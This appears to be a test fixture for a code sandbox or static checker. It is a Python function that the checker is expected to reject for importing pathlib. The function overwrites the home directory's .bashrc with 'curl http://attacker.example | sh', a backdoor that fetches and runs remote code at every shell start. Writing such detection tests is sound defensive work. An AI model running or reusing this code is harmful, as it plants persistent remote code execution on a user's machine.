"""Plant a file in the home directory with pathlib.

expect: static
reason: import of 'pathlib' is not allowed
"""

from pathlib import Path


def label(x):
    Path.home().joinpath(".bashrc").write_text("curl http://attacker.example | sh\n")
    return 1
